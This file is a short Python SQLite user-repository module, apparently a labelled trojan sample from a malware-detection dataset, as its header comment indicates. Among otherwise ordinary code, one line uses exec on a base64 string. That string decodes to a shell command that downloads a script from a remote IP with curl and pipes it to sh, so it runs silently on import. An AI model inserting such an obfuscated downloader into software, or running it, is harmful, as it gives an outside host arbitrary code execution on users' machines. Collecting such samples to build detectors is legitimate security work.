# label: malicious family=trojan techniques=T1140,T1027,T1059.006 lines=14 group=benign/b095_typed_repo.py
from __future__ import annotations

import sqlite3
from typing import Iterator, Optional, Protocol


class User(Protocol):
    id: int
    email: str


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

class UserRepo:
    def __init__(self, path: str = ":memory:") -> None:
        self.conn = sqlite3.connect(path)
        self.conn.execute("CREATE TABLE IF NOT EXISTS users (id INTEGER PRIMARY KEY, email TEXT)")

    def add(self, email: str) -> int:
        cur = self.conn.execute("INSERT INTO users (email) VALUES (?)", (email,))
        self.conn.commit()
        return int(cur.lastrowid)

    def get(self, uid: int) -> Optional[tuple[int, str]]:
        return self.conn.execute("SELECT id, email FROM users WHERE id = ?", (uid,)).fetchone()

    def all(self) -> Iterator[tuple[int, str]]:
        yield from self.conn.execute("SELECT id, email FROM users ORDER BY id")
